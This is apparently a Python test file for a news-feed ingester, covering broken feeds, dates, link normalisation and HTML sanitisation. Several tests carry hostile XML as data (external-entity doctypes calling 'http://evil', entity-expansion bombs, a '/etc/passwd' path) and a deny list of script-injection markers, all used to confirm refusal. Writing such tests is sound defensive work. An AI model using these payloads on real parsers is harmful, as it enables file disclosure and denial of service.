"""Feed parsing against the broken-feed corpus, identities and dates."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from hub.core.ingest.errors import FeedError
from hub.core.ingest.identity import normalise_link
from hub.core.ingest.parse import parse_feed
from hub.core.ingest.xmlguard import check_xml

CORPUS = Path(__file__).parents[1] / "fixtures" / "feeds"
NOW = dt.datetime(2026, 11, 22, 12, 0, tzinfo=dt.UTC)


def parse(name: str):
    return parse_feed((CORPUS / name).read_bytes(), url="https://feed.example.org/rss", now=NOW)


@pytest.mark.parametrize(
    ("name", "kind", "words"),
    [
        ("billion_laughs.xml", "unsafe_xml", "entity-expansion bomb"),
        ("external_entity.xml", "unsafe_xml", "external entity"),
        ("html_page.html", "not_a_feed", "HTML page"),
        ("binary_garbage.bin", "not_a_feed", "binary"),
        ("empty.xml", "empty", "empty"),
    ],
)
def test_refused_inputs_say_why(name: str, kind: str, words: str) -> None:
    with pytest.raises(FeedError) as caught:
        parse(name)
    assert caught.value.kind == kind
    assert words in caught.value.reason


def test_external_entity_never_reads_the_file() -> None:
    with pytest.raises(FeedError) as caught:
        parse("external_entity.xml")
    assert "root:" not in str(caught.value)


def test_bytes_that_look_like_a_path_are_not_opened() -> None:
    # feedparser.parse(bytes) would open a file by that name; we always hand it a stream.
    with pytest.raises(FeedError) as caught:
        parse_feed(b"/etc/passwd", url=None, now=NOW)
    assert caught.value.kind in ("unreadable", "not_a_feed")


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>',
        b'<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//EN" "http://evil/x">]>',
        b"<!DOCTYPE r [" + b'<!ENTITY a "aaaaaaaaaa">' * 200 + b"]>",
        b"<!DOCTYPE r [" + b"<!-- padding -->" * 20000,
        b'<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&#38;a;&#38;a;&#38;a;">]>',
        b'<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&#X26;a;&#x26;a;">]>',
    ],
)
def test_dangerous_doctypes_are_refused(doctype: bytes) -> None:
    with pytest.raises(FeedError) as caught:
        check_xml(b'<?xml version="1.0"?>' + doctype + b"<rss/>")
    assert caught.value.kind == "unsafe_xml"


def test_harmless_doctypes_pass() -> None:
    check_xml(b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://x/rss.dtd"><rss/>')
    check_xml(b'<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]><rss/>')


def test_truncated_xml_is_used_with_its_problem() -> None:
    feed = parse("truncated.xml")
    assert feed.candidates[0].title.startswith("First complete entry")
    assert any("ill-formed" in p for p in feed.problems)


def test_wrong_declared_encoding_is_read_and_noted() -> None:
    feed = parse("wrong_encoding.xml")
    assert feed.candidates[0].title == "Presupuestos participativos en León"
    assert any("encoding" in p for p in feed.problems)


def test_script_entries_come_out_clean() -> None:
    (entry,) = parse("script_entries.xml").candidates
    html = entry.summary_html.lower()
    for forbidden in ("<script", "onclick", "onerror", "javascript:", "data:", "vbscript:"):
        assert forbidden not in html
    for forbidden in ("file:", "<iframe", "<form", "style=", "onload", "<svg"):
        assert forbidden not in html
    assert 'href="https://hostile.example.org/relative/page"' in entry.summary_html
    assert "\u202e" not in entry.title and "\u200b" not in entry.title


def test_far_future_and_unparseable_dates_are_left_empty_with_a_problem() -> None:
    feed = parse("bad_dates.xml")
    dates = {c.title: c.published_at for c in feed.candidates}
    assert dates["From the far future"] is None
    assert dates["Unparseable date"] is None
    assert dates["A normal date"] == dt.datetime(2026, 11, 4, 10, 0, tzinfo=dt.UTC)
    assert any("future" in p for p in feed.problems)
    assert any("unreadable date" in p for p in feed.problems)


def test_identity_prefers_guid_then_link_then_content() -> None:
    feed = parse("good_rss.xml")
    ids = [c.external_id for c in feed.candidates]
    assert ids[:2] == ["guid:oidp-news-101", "guid:oidp-news-102"]
    assert ids[2] == "link:https://oidp.net/ca/news/assemblea-clima"
    bare = b'<rss version="2.0"><channel><title>t</title><item><title>Only a title</title>'
    bare += b"<description>and some text</description></item></channel></rss>"
    (entry,) = parse_feed(bare, url=None, now=NOW).candidates
    assert entry.external_id.startswith("hash:")
    again = parse_feed(bare, url="https://elsewhere.example/", now=NOW).candidates[0]
    assert again.external_id == entry.external_id


def test_relative_links_resolve_against_the_feed() -> None:
    feed = parse("good_atom.xml")
    assert 'href="https://members.example.org/blog/resultats"' in feed.candidates[0].summary_html


@pytest.mark.parametrize(
    ("raw", "key"),
    [
        ("HTTPS://Example.ORG/News/?utm_source=x&id=3#top", "https://example.org/News?id=3"),
        ("http://example.org:80/a/", "http://example.org/a"),
        ("https://example.org", "https://example.org/"),
        ("https://example.org/a?fbclid=zz", "https://example.org/a"),
        ("mailto:someone@example.org", None),
        ("/relative", None),
        ("", None),
    ],
)
def test_normalised_links(raw: str, key: str | None) -> None:
    assert normalise_link(raw) == key


def test_entries_seen_before_unchanged_are_not_cleaned_again() -> None:
    first = parse("good_rss.xml").candidates
    known = {c.external_id: c.content_hash for c in first}
    again = parse_feed(
        (CORPUS / "good_rss.xml").read_bytes(),
        url="https://feed.example.org/rss",
        now=NOW,
        known=known,
    ).candidates
    assert all(c.unchanged and c.title == "" for c in again)
    edited = (CORPUS / "good_rss.xml").read_bytes().replace(b"jury will meet", b"jury met")
    after_edit = parse_feed(edited, url=None, now=NOW, known=known).candidates
    assert [c.unchanged for c in after_edit] == [False, True, True]
    assert after_edit[0].external_id == first[0].external_id
    assert after_edit[0].content_hash != first[0].content_hash


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
@pytest.mark.parametrize("name", ["billion_laughs.xml", "external_entity.xml"])
def test_dangerous_xml_is_refused_in_wide_encodings(name: str, encoding: str) -> None:
    text = (CORPUS / name).read_text(encoding="utf-8")
    with pytest.raises(FeedError) as caught:
        parse_feed(text.encode(encoding), url=None, now=NOW)
    assert caught.value.kind == "unsafe_xml"


def test_a_doctype_hidden_behind_padding_is_refused() -> None:
    padded = (
        b'<?xml version="1.0"?>' + b" " * 70_000 + (CORPUS / "billion_laughs.xml").read_bytes()[21:]
    )
    with pytest.raises(FeedError) as caught:
        parse_feed(padded, url=None, now=NOW)
    assert caught.value.kind == "unsafe_xml"


def test_a_feed_with_too_many_entries_is_read_up_to_the_limit() -> None:
    from hub.core.ingest.parse import MAX_ENTRIES
    from hub.testing.feedserver import rss

    body = rss("Big", [(f"g{n}", f"Story {n}", "Text.") for n in range(MAX_ENTRIES + 100)])
    feed = parse_feed(body, url=None, now=NOW)
    assert len(feed.candidates) == MAX_ENTRIES
    assert any("only the first" in p for p in feed.problems)


@pytest.mark.parametrize("name", ["good_rss.xml", "good_atom.xml", "script_entries.xml"])
def test_corrupted_feeds_give_items_or_a_feed_error_never_a_crash(name: str) -> None:
    import random

    from hub.core.ingest.pipeline import read_feed

    original = (CORPUS / name).read_bytes()
    rng = random.Random(name)
    for _ in range(80):
        data = bytearray(original)
        for _ in range(rng.randint(1, 30)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        if rng.random() < 0.3:
            data = data[: rng.randrange(len(data))]
        try:
            feed = read_feed(bytes(data), url="https://feed.example.org/rss", now=NOW)
        except FeedError:
            continue
        for entry in feed.candidates:
            assert "<script" not in entry.summary_html.lower()


def test_xml_base_wins_for_relative_links() -> None:
    atom = b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">
      <title>t</title><id>urn:f</id><updated>2026-11-01T00:00:00Z</updated>
      <entry xml:base="https://cdn.example.org/media/"><title>e</title><id>urn:e</id>
        <link href="https://site.example.org/news/1"/><updated>2026-11-01T00:00:00Z</updated>
        <content type="html">&lt;a href="doc.pdf"&gt;doc&lt;/a&gt;</content></entry></feed>"""
    (entry,) = parse_feed(atom, url=None, now=NOW).candidates
    assert 'href="https://cdn.example.org/media/doc.pdf"' in entry.summary_html


def test_two_entries_with_one_guid_are_one_candidate_and_a_problem() -> None:
    now = dt.datetime(2026, 11, 22, 12, tzinfo=dt.UTC)
    feed = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>
    <item><title>First</title><guid>same-guid</guid><link>https://a.example/1</link></item>
    <item><title>Second copy</title><guid>same-guid</guid><link>https://a.example/1</link></item>
    <item><title>Other</title><guid>other-guid</guid></item>
    </channel></rss>"""
    parsed = parse_feed(feed, now=now)
    assert [c.title for c in parsed.candidates] == ["First", "Other"]
    assert any("entry 2: the same id as an earlier entry" in p for p in parsed.problems)


def test_an_atom_entry_keeps_its_own_link_and_lists_its_translations() -> None:
    now = dt.datetime(2026, 11, 22, 12, tzinfo=dt.UTC)
    feed = b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
    <entry><title>Award</title><id>1</id>
      <link rel="alternate" href="https://oidp.net/en/award"/>
      <link rel="alternate" hreflang="es" href="https://oidp.net/es/premio"/>
    </entry></feed>"""
    [candidate] = parse_feed(feed, now=now).candidates
    assert candidate.link == "https://oidp.net/en/award"
    assert candidate.alternates == ["https://oidp.net/es/premio"]
